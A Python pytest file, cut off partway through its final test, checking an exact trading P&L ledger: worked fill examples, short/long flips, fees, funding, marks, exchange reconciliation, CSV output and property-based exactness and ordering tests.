"""The exact P&L ledger: Fluxum's worked examples, the corrected ones, marks, CSV and exactness properties."""

from __future__ import annotations

import csv
import io
from dataclasses import replace
from decimal import Decimal, localcontext
from fractions import Fraction
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from exchange.book import BookState, OrderBook
from exchange.ledger import (
    CSV_COLUMNS,
    FORMULA_TRIGGERS,
    HISTORY_KEPT,
    MONEY_CONTEXT,
    SUMS_EVERY,
    Fill,
    Ledger,
    LedgerEntry,
    MarkSource,
    UpdateSource,
    csv_header,
    csv_text,
    format_decimal,
    write_csv,
)
from tests.support.entries import apply, fill, ledger_events, money_of

D = Decimal


def funding(fee: str | Decimal, *, symbol: str = "BTCUSDT", time_ms: int = 1_700_000_100_000) -> Fill:
    return fill("Buy", "1", "100", fee, symbol=symbol, exec_type="Funding", time_ms=time_ms)


def assert_identities(entry: LedgerEntry) -> None:
    """The two identities, evaluated with far more digits than any value has, so nothing can round."""
    with localcontext() as context:
        context.prec = 120
        assert entry.pnl == entry.realized_pnl - entry.fees - entry.funding + entry.unrealized_pnl
        assert entry.pnl == entry.notional + entry.position * entry.spot
        assert entry.pnl_spot == entry.position * entry.spot
        assert entry.running_qty == entry.position


def assert_identities_in_default_context(entry: LedgerEntry) -> None:
    """Realistic values are short decimals: the identities hold with Python's default 28 digits too."""
    assert entry.pnl == entry.realized_pnl - entry.fees - entry.funding + entry.unrealized_pnl
    assert entry.pnl == entry.notional + entry.position * entry.spot


# ---------------------------------------------------------------------- Fluxum's worked examples


def test_e1_buy_then_sell_at_a_profit_with_fees() -> None:
    ledger = Ledger()
    bought = apply(ledger, fill("Buy", "2", "100", "0.2", time_ms=1000))
    assert bought.position == 2
    assert bought.spot == 100
    assert bought.pnl_spot == 200
    assert bought.notional == D("-200.2")
    assert bought.pnl == D("-0.2")
    assert bought.cost_basis == 200  # OCaml: 200.2 (fees in the cost basis); here fees stay out
    assert bought.running_qty == 2
    assert bought.running_price == 100  # OCaml: 100.1
    assert bought.avg_buy_price == 100
    assert bought.avg_price == 100
    assert bought.buy_notional == 200
    assert bought.update_source is UpdateSource.Trade
    assert (bought.price, bought.side, bought.qty, bought.package_price) == (100, "Buy", 2, 200)
    assert bought.update_time == 1000
    assert bought.mark_source is MarkSource.LAST_FILL
    assert (bought.realized_pnl, bought.unrealized_pnl, bought.fees) == (0, 0, D("0.2"))

    sold = apply(ledger, fill("Sell", "2", "110", "0.22"))
    assert sold.position == 0
    assert sold.spot == 110
    assert sold.pnl_spot == 0
    assert sold.notional == D("19.58")
    assert sold.pnl == D("19.58")
    assert (sold.cost_basis, sold.running_qty, sold.running_price) == (0, 0, 0)
    assert (sold.avg_buy_price, sold.avg_sell_price, sold.avg_price) == (100, 110, 105)
    assert (sold.total_buy_qty, sold.total_sell_qty) == (2, 2)
    assert (sold.buy_notional, sold.sell_notional) == (200, 220)
    assert (sold.realized_pnl, sold.fees, sold.unrealized_pnl) == (20, D("0.42"), 0)
    for entry in (bought, sold):
        assert_identities(entry)
        assert_identities_in_default_context(entry)


def test_e2_two_buys_a_mark_a_partial_sell_a_mark() -> None:
    ledger = Ledger()
    apply(ledger, fill("Buy", "1", "100", "0.1"))
    bought = apply(ledger, fill("Buy", "1", "120", "0.12"))
    assert bought.position == 2
    assert bought.notional == D("-220.22")
    assert bought.cost_basis == 220  # OCaml 220.22
    assert bought.running_price == 110  # OCaml 110.11
    assert bought.avg_buy_price == 110
    assert (bought.spot, bought.pnl_spot, bought.pnl) == (120, 240, D("19.78"))

    marked = ledger.mark("BTCUSDT", D("115"), MarkSource.BEST_BID, 5000)
    assert (marked.spot, marked.pnl_spot, marked.pnl) == (115, 230, D("9.78"))
    assert marked.update_source is UpdateSource.Market_data
    assert (marked.price, marked.side, marked.qty, marked.package_price) == (None, None, None, None)
    assert marked.mark_source is MarkSource.BEST_BID
    assert marked.update_time == 5000

    sold = apply(ledger, fill("Sell", "0.5", "130", "0.065"))
    assert sold.position == D("1.5")
    assert sold.notional == D("-155.285")
    assert sold.cost_basis == 165  # 220 x 1.5 / 2; OCaml 165.165
    assert sold.running_qty == D("1.5")
    assert sold.running_price == 110
    assert sold.avg_sell_price == 130
    assert sold.avg_price == 114
    assert (sold.spot, sold.pnl_spot, sold.pnl) == (130, 195, D("39.715"))

    remarked = ledger.mark("BTCUSDT", D("125"), MarkSource.BEST_BID, 6000)
    assert (remarked.pnl_spot, remarked.pnl) == (D("187.5"), D("32.215"))
    # Gross realized 0.5 x (130 - 110), all fees apart, unrealized 1.5 x (125 - 110).
    assert (remarked.realized_pnl, remarked.fees, remarked.unrealized_pnl) == (10, D("0.285"), D("22.5"))
    for entry in (bought, marked, sold, remarked):
        assert_identities(entry)
        assert_identities_in_default_context(entry)


def test_e3_a_sell_flips_a_long_into_a_short_correctly() -> None:
    ledger = Ledger()
    apply(ledger, fill("Buy", "1", "100"))
    flipped = apply(ledger, fill("Sell", "3", "110", "0.33"))
    assert flipped.position == -2
    assert flipped.running_price == 110
    assert flipped.cost_basis == -220
    assert flipped.realized_pnl == 10
    assert flipped.fees == D("0.33")
    assert flipped.notional == D("229.67")
    assert flipped.pnl == D("9.67")
    assert flipped.unrealized_pnl == 0
    # Nothing synthetic: the totals count the real fills only, and the last leg is the whole fill.
    assert (flipped.total_buy_qty, flipped.total_sell_qty) == (1, 3)
    assert (flipped.buy_notional, flipped.sell_notional) == (100, 330)
    assert flipped.avg_price == D("107.5")
    assert (flipped.qty, flipped.package_price, flipped.update_source) == (3, 330, UpdateSource.Trade)

    marked = ledger.mark("BTCUSDT", D("105"), MarkSource.BEST_ASK, 1)
    assert marked.unrealized_pnl == 10
    assert marked.pnl == D("19.67")
    for entry in (flipped, marked):
        assert_identities(entry)


def test_e4_a_short_from_flat_then_buy_to_cover() -> None:
    ledger = Ledger()
    short = apply(ledger, fill("Sell", "1", "100", "0.1"))
    assert short.position == -1
    assert short.running_price == 100
    assert short.cost_basis == -100
    assert short.pnl == D("-0.1")
    assert short.total_buy_qty == 0  # no invented buy

    in_profit = ledger.mark("BTCUSDT", D("95"), MarkSource.BEST_ASK, 1)
    assert (in_profit.unrealized_pnl, in_profit.pnl) == (5, D("4.9"))
    in_loss = ledger.mark("BTCUSDT", D("104"), MarkSource.BEST_ASK, 2)
    assert (in_loss.unrealized_pnl, in_loss.pnl) == (-4, D("-4.1"))

    covered = apply(ledger, fill("Buy", "1", "90", "0.09"))
    assert covered.position == 0
    assert (covered.running_price, covered.cost_basis) == (0, 0)
    assert covered.realized_pnl == 10
    assert covered.fees == D("0.19")
    assert covered.pnl == D("9.81")
    for entry in (short, in_profit, in_loss, covered):
        assert_identities(entry)
        assert_identities_in_default_context(entry)


def _book(bids: list[tuple[str, str]], asks: list[tuple[str, str]], symbol: str = "BTCUSDT") -> OrderBook:
    book = OrderBook(f"orderbook.50.{symbol}")
    book.apply(
        {
            "topic": f"orderbook.50.{symbol}",
            "type": "snapshot",
            "ts": 1,
            "data": {
                "s": symbol,
                "b": [list(b) for b in bids],
                "a": [list(a) for a in asks],
                "u": 10,
                "seq": 1,
            },
        }
    )
    return book


def test_e5_mark_to_market_after_the_book_moves() -> None:
    ledger = Ledger()
    bought = apply(ledger, fill("Buy", "0.5", "60000", "3"))
    assert bought.notional == -30003
    assert (bought.cost_basis, bought.running_price) == (30000, 60000)  # OCaml 30003 / 60006
    assert bought.pnl == -3

    book = _book([("61000", "0.2"), ("60990", "1")], [("61010", "1")])
    chosen = ledger.choose_mark("BTCUSDT", mark_price=None, book=book)
    assert chosen == (D("61000"), MarkSource.BEST_BID)  # the best bid, not a VWAP of the position
    up = ledger.mark("BTCUSDT", *chosen, 2)
    assert (up.pnl_spot, up.pnl, up.unrealized_pnl) == (30500, 497, 500)
    down = ledger.mark("BTCUSDT", D("59000"), MarkSource.BEST_BID, 3)
    assert (down.pnl_spot, down.pnl, down.unrealized_pnl) == (29500, -503, -500)
    for entry in (bought, up, down):
        assert_identities(entry)


def test_e6_decimal_flat_is_exactly_flat() -> None:
    ledger = Ledger()
    apply(ledger, fill("Buy", "0.3", "10"))
    apply(ledger, fill("Sell", "0.1", "10"))
    last = apply(ledger, fill("Sell", "0.2", "10"))
    assert last.position == 0
    assert (last.cost_basis, last.running_price) == (0, 0)
    assert last.total_sell_qty == D("0.3")
    assert last.qty == D("0.2")
    assert last.realized_pnl == 0
    assert_identities(last)


def test_e8_average_prices() -> None:
    ledger = Ledger()
    for qty, price in (("10", "3000"), ("5", "3200"), ("5", "2800")):
        bought = apply(ledger, fill("Buy", qty, price))
    assert bought.avg_buy_price == 3000
    for qty, price in (("5", "3500"), ("5", "3300")):
        sold = apply(ledger, fill("Sell", qty, price))
    assert sold.avg_sell_price == 3400
    assert sold.avg_price.quantize(D("0.01")) == D("3133.33")
    assert abs(Fraction(sold.avg_price) - Fraction(94000, 30)) < Fraction(1, 10**15)
    assert (sold.cost_basis, sold.running_price, sold.position) == (30000, 3000, 10)
    assert sold.notional == -26000
    assert sold.pnl == 7000  # the last fill (3300) is the mark
    assert (sold.realized_pnl, sold.unrealized_pnl) == (4000, 3000)
    assert_identities(sold)


# ---------------------------------------------------------------------- beyond the examples


def test_non_terminating_average_entry_keeps_the_identities_exact() -> None:
    ledger = Ledger()
    apply(ledger, fill("Buy", "1", "100"))
    grown = apply(ledger, fill("Buy", "2", "101"))
    assert grown.cost_basis == 302  # the cost basis itself stays exact
    assert grown.running_price.quantize(D("1e-12")) == D("100.666666666667")
    closed = apply(ledger, fill("Sell", "1", "105", "0.0525"))
    # 1 x (105 - 100.666...) realized; the cost basis keeps 2/3 of 302, rounded at 18 places.
    assert abs(Fraction(closed.realized_pnl) - (105 - Fraction(302, 3))) < Fraction(1, 10**17)
    assert abs(Fraction(closed.cost_basis) - Fraction(604, 3)) < Fraction(1, 10**17)
    marked = ledger.mark("BTCUSDT", D("99.5"), MarkSource.MARK_PRICE, 9)
    for entry in (grown, closed, marked):
        assert_identities(entry)
        assert_identities_in_default_context(entry)
    assert marked.realized_pnl + marked.unrealized_pnl == marked.notional + marked.fees + marked.position * D("99.5")


def test_short_to_long_flip_opens_the_remainder_at_the_fill_price() -> None:
    ledger = Ledger()
    apply(ledger, fill("Sell", "2", "100"))
    flipped = apply(ledger, fill("Buy", "5", "90", "0.45"))
    assert flipped.position == 3
    assert flipped.running_price == 90
    assert flipped.cost_basis == 270
    assert flipped.realized_pnl == 20  # 2 x (100 - 90) on the short
    assert flipped.pnl == D("19.55")
    assert_identities(flipped)


def test_adding_to_a_short_averages_the_entry() -> None:
    ledger = Ledger()
    apply(ledger, fill("Sell", "1", "100"))
    added = apply(ledger, fill("Sell", "3", "104"))
    assert added.position == -4
    assert added.running_price == 103
    assert added.cost_basis == -412
    partial = apply(ledger, fill("Buy", "1", "101"))
    assert partial.realized_pnl == 2  # 1 x (103 - 101) on a short
    assert (partial.position, partial.running_price) == (-3, 103)
    assert_identities(partial)


def test_maker_rebates_are_negative_fees_that_add_cash() -> None:
    ledger = Ledger()
    bought = apply(ledger, fill("Buy", "1", "100", "-0.02"))
    assert bought.fees == D("-0.02")
    assert bought.notional == D("-99.98")
    assert bought.pnl == D("0.02")
    sold = apply(ledger, fill("Sell", "1", "100", "-0.02"))
    assert (sold.fees, sold.realized_pnl, sold.pnl) == (D("-0.04"), 0, D("0.04"))
    assert_identities(sold)


def test_funding_paid_and_received_moves_cash_not_the_position() -> None:
    ledger = Ledger()
    apply(ledger, fill("Buy", "1", "100"))
    paid = apply(ledger, funding("0.01", time_ms=7000))
    assert paid.position == 1
    assert paid.funding == D("0.01")
    assert paid.notional == D("-100.01")
    assert paid.pnl == D("-0.01")
    assert paid.update_source is UpdateSource.Funding
    assert paid.update_time == 7000
    assert paid.total_buy_qty == 1  # funding is not a fill leg
    assert paid.qty is None
    received = apply(ledger, funding("-0.025"))
    assert received.funding == D("-0.015")
    assert received.pnl == D("0.015")
    assert received.fees == 0
    assert ledger.fill_count("BTCUSDT") == 3
    for entry in (paid, received):
        assert_identities(entry)


def test_funding_before_any_trade_makes_a_flat_entry() -> None:
    ledger = Ledger()
    entry = apply(ledger, funding("0.5", symbol="ETHUSDT"))
    assert (entry.position, entry.funding, entry.pnl, entry.mark_source) == (0, D("0.5"), D("-0.5"), None)


def test_duplicate_exec_id_is_ignored_and_counted() -> None:
    ledger = Ledger()
    first = fill("Buy", "1", "100", "0.1", exec_id="same")
    entry = apply(ledger, first)
    version = ledger.version
    assert ledger.apply_fill(first) is None
    assert ledger.apply_fill(fill("Sell", "1", "200", exec_id="same")) is None
    assert ledger.duplicates == 2
    assert ledger.entry("BTCUSDT") == entry
    assert ledger.version == version


def test_symbols_are_isolated() -> None:
    ledger = Ledger()
    apply(ledger, fill("Buy", "1", "100", "0.1", symbol="BTCUSDT"))
    apply(ledger, fill("Sell", "2", "50", "0.2", symbol="ETHUSDT"))
    ledger.mark("ETHUSDT", D("40"), MarkSource.MARK_PRICE, 1)
    btc, eth = ledger.entry("BTCUSDT"), ledger.entry("ETHUSDT")
    assert btc is not None and eth is not None
    assert (btc.position, btc.spot, btc.fees, btc.mark_source) == (1, 100, D("0.1"), MarkSource.LAST_FILL)
    assert (eth.position, eth.spot, eth.fees, eth.unrealized_pnl) == (-2, 40, D("0.2"), 20)
    assert [entry.symbol for entry in ledger.entries()] == ["BTCUSDT", "ETHUSDT"]
    assert ledger.entry("SOLUSDT") is None
    assert ledger.fill_count("ETHUSDT") == 1 and ledger.fill_count("SOLUSDT") == 0


@pytest.mark.parametrize(
    "bad",
    [
        fill("Buy", "0", "100"),
        fill("Buy", "-1", "100"),
        fill("Buy", "1", "0"),
        fill("Hold", "1", "100"),
        fill("Buy", "1", "NaN"),
        fill("Buy", "1", "100", "Infinity"),
        fill("Buy", "1", "100", symbol=""),
        Fill("", "BTCUSDT", "Buy", D(1), D(100), D(0), 1),
    ],
)
def test_bad_fills_are_rejected_and_counted_never_raised(bad: Fill) -> None:
    ledger = Ledger()
    assert ledger.apply_fill(bad) is None
    assert ledger.rejected == 1
    assert ledger.entries() == []


def test_other_execution_types() -> None:
    ledger = Ledger()
    apply(ledger, fill("Buy", "2", "100"))
    adl = apply(ledger, fill("Sell", "1", "120", exec_type="AdlTrade"))
    assert (adl.position, adl.realized_pnl) == (1, 20)
    settle = apply(ledger, fill("Buy", "1", "130", "0.3", exec_type="Settle"))
    assert settle.position == 1  # moves no position, charges its fee
    assert settle.fees == D("0.3")
    assert settle.total_buy_qty == 2
    assert_identities(settle)


def test_open_order_summary() -> None:
    ledger = Ledger()
    entry = ledger.set_open_orders("BTCUSDT", D("3"), D("1.5"), D("1.5"))
    assert (entry.total_original, entry.total_executed, entry.total_remaining) == (3, D("1.5"), D("1.5"))
    after = apply(ledger, fill("Buy", "1", "100"))
    assert (after.total_original, after.total_executed, after.total_remaining) == (3, D("1.5"), D("1.5"))


def test_mark_refuses_nonsense_prices() -> None:
    ledger = Ledger()
    for price in (D(0), D(-1), D("NaN")):
        with pytest.raises(ValueError):
            ledger.mark("BTCUSDT", price, MarkSource.EXTERNAL, 1)


def test_marking_an_unseen_symbol_makes_a_flat_entry_with_that_spot() -> None:
    entry = Ledger().mark("SOLUSDT", D("150.5"), MarkSource.MID, 3)
    assert (entry.position, entry.spot, entry.pnl, entry.mark_source) == (0, D("150.5"), 0, MarkSource.MID)


def test_version_moves_on_every_change() -> None:
    ledger = Ledger()
    assert ledger.version == 0
    apply(ledger, fill("Buy", "1", "100"))
    ledger.mark("BTCUSDT", D("101"), MarkSource.MID, 1)
    ledger.set_open_orders("BTCUSDT", D(0), D(0), D(0))
    assert ledger.version == 3


# ---------------------------------------------------------------------- reconcile with the exchange


def test_reconcile_without_history_assumes_an_opening_leg_at_avg_price() -> None:
    ledger = Ledger()
    entry = ledger.reconcile_position("BTCUSDT", D("-0.5"), D("60000"), 1234)
    assert entry is not None
    assert entry.update_source is UpdateSource.External_trade
    assert (entry.position, entry.running_price, entry.cost_basis) == (D("-0.5"), 60000, -30000)
    assert (entry.side, entry.qty, entry.price) == ("Sell", D("0.5"), 60000)
    assert entry.update_time == 1234
    assert ledger.reconcile_position("BTCUSDT", D("-0.5"), D("60000"), 1300) is None
    marked = ledger.mark("BTCUSDT", D("59000"), MarkSource.MARK_PRICE, 1400)
    assert marked.unrealized_pnl == 500
    assert_identities(marked)


def test_reconcile_puts_the_missing_lot_before_the_fetched_history() -> None:
    ledger = Ledger()
    apply(ledger, fill("Sell", "1", "110", "0.11"))  # closes half of a long bought before the window
    ledger.mark("BTCUSDT", D("108"), MarkSource.MARK_PRICE, 50)
    entry = ledger.reconcile_position("BTCUSDT", D("1"), D("100"), 60)
    assert entry is not None
    assert entry.position == 1
    assert entry.running_price == 100
    assert entry.realized_pnl == 10  # the sale closed a unit of the assumed lot at 100
    assert (entry.spot, entry.mark_source) == (108, MarkSource.MARK_PRICE)  # the latest mark survives
    assert entry.update_source is UpdateSource.External_trade
    assert entry.total_buy_qty == 2  # the assumed leg counts, like Fluxum's External_trade
    assert ledger.fill_count("BTCUSDT") == 1
    assert_identities(entry)
    after = apply(ledger, fill("Sell", "1", "120"))
    assert (after.position, after.realized_pnl) == (0, 30)


def test_reconcile_a_flat_exchange_position_uses_the_first_fill_price() -> None:
    ledger = Ledger()
    apply(ledger, fill("Sell", "1", "110"))
    entry = ledger.reconcile_position("BTCUSDT", D("0"), D("0"), 70)
    assert entry is not None
    assert entry.position == 0
    assert entry.realized_pnl == 0  # an unknown lot realizes nothing
    assert_identities(entry)


def test_reconcile_without_any_price_is_rejected() -> None:
    ledger = Ledger()
    assert ledger.reconcile_position("BTCUSDT", D("1"), D("0"), 70) is None
    assert ledger.rejected == 1


# ---------------------------------------------------------------------- choose_mark


def test_choose_mark_prefers_bybit_mark_price() -> None:
    ledger = Ledger()
    apply(ledger, fill("Buy", "1", "100"))
    book = _book([("99", "1")], [("101", "1")])
    assert ledger.choose_mark("BTCUSDT", mark_price=D("100.5"), book=book) == (
        D("100.5"),
        MarkSource.MARK_PRICE,
    )
    assert ledger.choose_mark("BTCUSDT", mark_price=D("100.5"), book=None) == (
        D("100.5"),
        MarkSource.MARK_PRICE,
    )


def test_choose_mark_uses_the_side_a_position_closes_into() -> None:
    ledger = Ledger()
    book = _book([("99.5", "1"), ("99", "2")], [("100.25", "1")])
    assert ledger.choose_mark("BTCUSDT", mark_price=None, book=book) == (D("99.875"), MarkSource.MID)
    apply(ledger, fill("Buy", "1", "100"))
    assert ledger.choose_mark("BTCUSDT", mark_price=None, book=book) == (D("99.5"), MarkSource.BEST_BID)
    apply(ledger, fill("Sell", "3", "100"))
    assert ledger.choose_mark("BTCUSDT", mark_price=None, book=book) == (D("100.25"), MarkSource.BEST_ASK)


def test_choose_mark_mid_is_exact_from_the_price_strings() -> None:
    book = _book([("0.1", "1")], [("0.2", "1")])
    assert Ledger().choose_mark("BTCUSDT", mark_price=None, book=book) == (D("0.15"), MarkSource.MID)


def test_choose_mark_never_uses_an_untrusted_or_empty_book() -> None:
    ledger = Ledger()
    apply(ledger, fill("Buy", "1", "100"))
    assert ledger.choose_mark("BTCUSDT", mark_price=None, book=None) is None
    awaiting = OrderBook("orderbook.50.BTCUSDT")
    assert awaiting.state is BookState.AWAITING_SNAPSHOT
    assert ledger.choose_mark("BTCUSDT", mark_price=None, book=awaiting) is None
    resyncing = _book([("99", "1")], [("101", "1")])
    gap = {"topic": "orderbook.50.BTCUSDT", "type": "delta", "ts": 2, "data": {"b": [], "a": [], "u": 99}}
    resyncing.apply(gap)
    assert resyncing.state is BookState.RESYNCING
    assert resyncing.best_bid() is not None  # levels are still readable, but not trusted
    assert ledger.choose_mark("BTCUSDT", mark_price=None, book=resyncing) is None
    no_bids = _book([], [("101", "1")])
    assert no_bids.state is BookState.SYNCED
    assert ledger.choose_mark("BTCUSDT", mark_price=None, book=no_bids) is None  # a long needs a bid
    assert Ledger().choose_mark("BTCUSDT", mark_price=None, book=no_bids) is None  # flat needs both
    assert ledger.choose_mark("BTCUSDT", mark_price=D(0), book=None) is None  # a zero markPrice is unknown


# ---------------------------------------------------------------------- CSV

FLUXUM_COLUMNS = (
    "symbol,pnl,position,spot,pnl_spot,notional,avg_buy_price,avg_sell_price,avg_price,update_time,"
    "update_source,total_buy_qty,total_sell_qty,price,side,qty,package_price,buy_notional,sell_notional,"
    "total_original,total_executed,total_remaining,cost_basis,running_price,running_qty"
)


def test_csv_header_order_is_fluxums_then_the_added_fields() -> None:
    expected = FLUXUM_COLUMNS + ",realized_pnl,unrealized_pnl,fees,funding,mark_source"
    assert ",".join(csv_header()) == expected
    out = io.StringIO()
    assert write_csv([], out) == 0
    assert out.getvalue() == expected + "\n"
    assert len(CSV_COLUMNS) == 30


def test_csv_round_trip_of_a_small_ledger() -> None:
    ledger = Ledger()
    entries = [
        apply(ledger, fill("Buy", "2.000", "100.50", "0.20", time_ms=1000)),
        apply(ledger, fill("Buy", "1", "101", time_ms=1500)),
        ledger.mark("BTCUSDT", D("1E+2"), MarkSource.MARK_PRICE, 2000),
        apply(ledger, fill("Sell", "3", "99", "-0.03", time_ms=3000)),
        apply(ledger, funding("0.01", symbol="ETHUSDT", time_ms=4000)),
    ]
    out = io.StringIO()
    assert write_csv(entries, out) == len(entries)
    text = out.getvalue()
    assert "E" not in text.replace("External", "").replace("ETH", "")  # no exponents anywhere
    assert "-0," not in text
    rows = list(csv.DictReader(io.StringIO(text)))
    assert len(rows) == len(entries)
    for row, entry in zip(rows, entries, strict=True):
        assert list(row) == list(CSV_COLUMNS)
        for column in CSV_COLUMNS:
            value, cell = getattr(entry, column), row[column]
            if value is None:
                assert cell == ""
            elif isinstance(value, Decimal):
                assert D(cell) == value, column
            elif column == "side":
                assert cell == value.lower()
            elif column in ("update_source", "mark_source"):
                assert cell == value.value
            else:
                assert cell == str(value)
    assert rows[0]["side"] == "buy" and rows[3]["side"] == "sell"
    assert rows[0]["update_time"] == "1000"
    assert rows[0]["price"] == "100.5"  # trailing zeros normalised
    assert rows[2]["spot"] == "100" and rows[2]["price"] == ""  # no exponent; None after a mark
    assert rows[4]["update_source"] == "Funding" and rows[4]["mark_source"] == ""


def test_format_decimal_is_plain() -> None:
    assert format_decimal(D("1E+3")) == "1000"
    assert format_decimal(D("-0.000")) == "0"
    assert format_decimal(D("0.10")) == "0.1"
    assert format_decimal(D("1E-12")) == "0.000000000001"
    assert format_decimal(D("123456789012345678901234567890.123456789")) == "123456789012345678901234567890.123456789"


# ---------------------------------------------------------------------- properties

_quantities = st.one_of(
    st.sampled_from([D("0.1"), D("0.2"), D("0.3"), D("1"), D("3")]),
    st.decimals(min_value=D("0.001"), max_value=D("500"), places=3),
)
_prices = st.decimals(min_value=D("0.01"), max_value=D("150000"), places=2)
_fees = st.one_of(st.just(D(0)), st.decimals(min_value=D("-2"), max_value=D("20"), places=6))
_events = ledger_events(_quantities, _prices, _fees)


class _Reference:
    """Average cost in exact fractions: the semantics written the obvious way, to check the ledger against."""

    def __init__(self) -> None:
        self.position = Fraction(0)
        self.average = Fraction(0)
        self.realized = Fraction(0)

    def trade(self, sign: int, qty: Fraction, price: Fraction) -> None:
        if self.position == 0 or (self.position > 0) == (sign > 0):
            held = abs(self.position)
            self.average = (self.average * held + qty * price) / (held + qty)
            self.position += sign * qty
            return
        closed = min(qty, abs(self.position))
        self.realized += closed * (price - self.average) * (1 if self.position > 0 else -1)
        self.position += sign * closed
        if qty > closed:
            self.position = sign * (qty - closed)
            self.average = price
        if self.position == 0:
            self.average = Fraction(0)


@settings(max_examples=250, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(_events)
def test_identities_hold_exactly_for_any_fill_sequence(events: list[tuple]) -> None:
    ledger = Ledger()
    reference = _Reference()
    fills: list[Fill] = []
    signed_qty = D(0)
    for number, event in enumerate(events):
        if event[0] == "fill":
            _, side, qty, price, fee = event
            item = fill(side, qty, price, fee, time_ms=number)
            reference.trade(1 if side == "Buy" else -1, Fraction(qty), Fraction(price))
            signed_qty += qty if side == "Buy" else -qty
        elif event[0] == "funding":
            item = funding(event[1], time_ms=number)
        else:
            if ledger.entry("BTCUSDT") is not None:
                assert_identities(ledger.mark("BTCUSDT", event[1], MarkSource.MARK_PRICE, number))
            continue
        fills.append(item)
        entry = apply(ledger, item)
        assert_identities(entry)
        assert entry.position == signed_qty
        assert Fraction(entry.position) == reference.position
        # Only the pro-rata cost basis is ever rounded (18 places), so realized P&L tracks the exact value.
        assert abs(Fraction(entry.realized_pnl) - reference.realized) <= Fraction(1, 10**15)
        if entry.position:
            assert abs(Fraction(entry.running_price) - reference.average) <= Fraction(1, 10**15)
        else:
            assert entry.cost_basis == 0 and entry.running_price == 0

    before = ledger.entries()
    version = ledger.version
    for item in fills:
        assert ledger.apply_fill(item) is None
    assert ledger.entries() == before
    assert ledger.duplicates == len(fills)
    assert ledger.version == version


@settings(max_examples=60, deadline=None, derandomize=True)
@given(_events)
def test_replaying_in_the_same_order_gives_the_same_entries(events: list[tuple]) -> None:
    """Two ledgers fed the same fills agree field for field, whatever else happens in between."""
    fills = [
        fill(event[1], event[2], event[3], event[4], time_ms=number)
        for number, event in enumerate(events)
        if event[0] == "fill"
    ]
    first, second = Ledger(), Ledger()
    for item in fills:
        first.apply_fill(item)
    for item in fills:
        second.apply_fill(item)
        second.apply_fill(item)  # every duplicate in between is ignored
    assert first.entries() == second.entries()
    batch = Ledger()  # a journal replay at start: one batch, each symbol's entry frozen once at the end
    applied = batch.apply_fills(fills + fills)
    assert batch.entries() == first.entries() and len(applied) == len(fills)
    assert batch.version == len({item.symbol for item in fills})
    with localcontext(MONEY_CONTEXT):
        for entry in first.entries():
            assert_identities(entry)


@settings(max_examples=150, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(_events, st.randoms(use_true_random=False), st.booleans())
def test_the_order_fills_arrive_in_never_changes_the_ledger(events: list[tuple], rng, with_external: bool) -> None:
    """A live push overtakes the backfill, a push comes late: the ledger equals the one fed in execution order,
    field for field (an external leg from a position reconcile stays first)."""
    items = [
        fill(e[1], e[2], e[3], e[4], time_ms=1_000 + n // 3, exec_id=f"e{n:03d}")  # some share an execTime
        if e[0] == "fill"
        else funding(e[1], time_ms=1_000 + n // 3)
        for n, e in enumerate(events)
        if e[0] != "mark"
    ]
    shuffled = items[:]
    rng.shuffle(shuffled)
    in_order, arrived = Ledger(), Ledger()
    for ledger, sequence in ((in_order, sorted(items, key=lambda f: (f.time_ms, f.exec_id))), (arrived, shuffled)):
        if with_external:
            ledger.reconcile_position("BTCUSDT", D("0.5"), D("100"), 900)  # held before the history began
        for item in sequence:
            ledger.apply_fill(item)
    # The money and the position agree field for field; what describes the last event applied (its time,
    # source and leg) is, by its definition, about arrival.
    last_event: dict[str, Any] = {"update_time": 0, "update_source": None, "price": None, "side": None, "qty": None}
    assert [replace(e, package_price=None, **last_event) for e in arrived.entries()] == [
        replace(e, package_price=None, **last_event) for e in in_order.entries()
    ]
    assert arrived.fill_count("BTCUSDT") == in_order.fill_count("BTCUSDT") == len(items)


def test_a_backfill_behind_the_live_stream_replays_each_symbol_once(monkeypatch: pytest.MonkeyPatch) -> None:
    """Live pushes ran ahead; the backfill then brings 200 older fills: one replay, not one per late fill."""
    from exchange import ledger as ledger_module

    replays: list[int] = []
    original = ledger_module._SymbolLedger.replayed_with

    def counting(self, late):
        replays.append(len(late))
        return original(self, late)

    monkeypatch.setattr(ledger_module._SymbolLedger, "replayed_with", counting)
    ledger = Ledger()
    live = [fill("Buy" if n % 2 else "Sell", "0.1", str(100 + n), time_ms=10_000 + n) for n in range(20)]
    older = [fill("Sell" if n % 3 else "Buy", "0.2", str(90 + n % 7), time_ms=n) for n in range(200)]
    ledger.apply_fills(live)
    applied = ledger.apply_fills(older + [fill("Buy", "1", "50", symbol="ETHUSDT", time_ms=1)])
    assert replays == [200] and ledger.reordered == 200 and len(applied) == 201
    in_order = Ledger()
    in_order.apply_fills(sorted(live + older, key=lambda f: (f.time_ms, f.exec_id)))
    got, want = ledger.entry("BTCUSDT"), in_order.entry("BTCUSDT")
    assert got is not None and want is not None
    assert (got.position, got.realized_pnl, got.running_price, got.fees) == (
        want.position,
        want.realized_pnl,
        want.running_price,
        want.fees,
    )


# ---------------------------------------------------------------------- bounded history

_ORDER_FREE = ("position", "fees", "funding", "total_buy_qty", "total_sell_qty", "buy_notional", "sell_notional")


@settings(max_examples=150, deadline=None, derandomize=True, suppress_health_check=[HealthCheck.too_slow])
@given(_events, st.randoms(use_true_random=False), st.integers(min_value=1, max_value=8), st.integers(0, 6))
def test_a_bounded_history_gives_the_ledger_of_an_unbounded_one(
    events: list[tuple], rng, kept: int, lateness: int
) -> None:
    """Only the newest ``kept`` fills are held for replays. Fills arriving up to ``lateness`` places late give
    exactly the unbounded ledger while they are newer than everything folded away; older ones are counted and
    still keep every order-free figure exact."""
    items = [
        fill(e[1], e[2], e[3], e[4], time_ms=1_000 + n // 2, exec_id=f"e{n:03d}")
        if e[0] == "fill"
        else funding(e[1], time_ms=1_000 + n // 2)
        for n, e in enumerate(events)
        if e[0] != "mark"
    ]
    arrival = sorted(range(len(items)), key=lambda n: n + rng.randint(0, lateness))
    bounded, unbounded = Ledger(history_kept=kept), Ledger(history_kept=10**9)
    for ledger in (bounded, unbounded):
        ledger.reconcile_position("BTCUSDT", D("0.5"), D("100"), 900)  # held before the history began
        for n in arrival:
            ledger.apply_fill(items[n])
            entry = ledger.entry("BTCUSDT")
            assert entry is not None
            with localcontext(MONEY_CONTEXT):
                assert_identities(entry)
    got, want = bounded.entry("BTCUSDT"), unbounded.entry("BTCUSDT")
    assert got is not None and want is not None
    if bounded.beyond_history == 0:
